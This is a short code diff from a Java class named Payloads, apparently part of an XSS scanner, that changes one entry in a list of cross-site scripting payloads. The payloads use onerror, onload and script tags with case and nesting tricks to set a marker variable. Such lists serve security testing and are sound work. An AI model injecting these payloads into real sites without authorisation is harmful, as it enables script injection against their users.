@@ -61,7 +61,7 @@ final class Payloads {
                     "<style onload=window.c360xss=1></style>",
                     "<img src='x' onerror='window.c360xss=1'",
                     "<img/src=x/onerror=window.c360xss=1>",
-                    "<IMG SRC=x OnErRoR=window.c360xss=1>",
+                    "<IMG SRC=y OnErRoR=window.c360xss=1>",
                     "<<script>window.c360xss=1//<</script>",
                     "<script/src=data:,window.c360xss=1></script>",
                     "<template><img src=x onerror=window.c360xss=1></template>",
